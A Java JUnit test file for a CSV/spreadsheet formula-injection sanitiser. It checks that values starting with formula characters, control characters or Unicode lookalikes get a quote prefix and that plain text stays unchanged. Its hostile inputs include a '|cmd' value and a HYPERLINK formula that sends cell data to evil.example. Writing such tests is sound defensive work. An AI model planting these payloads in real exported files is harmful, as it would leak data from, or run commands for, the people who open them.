package org.barnstorm.platform;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class FormulaTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "|cmd",
                "%0A=1",
                "   =1",
                "\u00A0=1",
                "\u3000=1",
                "\u200B=1",
                "\uFEFF=1",
                "\u202E=1",
                "\u0001=1",
                "\uFF1D1",
                "\uFF0B1",
                "\uFF0D1",
                "\uFF20A1",
                "\u22121",
                "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")"
            })
    void what_a_spreadsheet_would_compute_is_text(String hostile) {
        assertThat(Formula.harmless(hostile)).isEqualTo("'" + hostile);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", " ", "Knock on doors", "1+1", "a=b", "\u00E9t\u00E9", "'=1", "(=1)", "\uD83D\uDE00=1"})
    void everything_else_stays_as_it_is(String plain) {
        assertThat(Formula.harmless(plain)).isEqualTo(plain);
    }
}
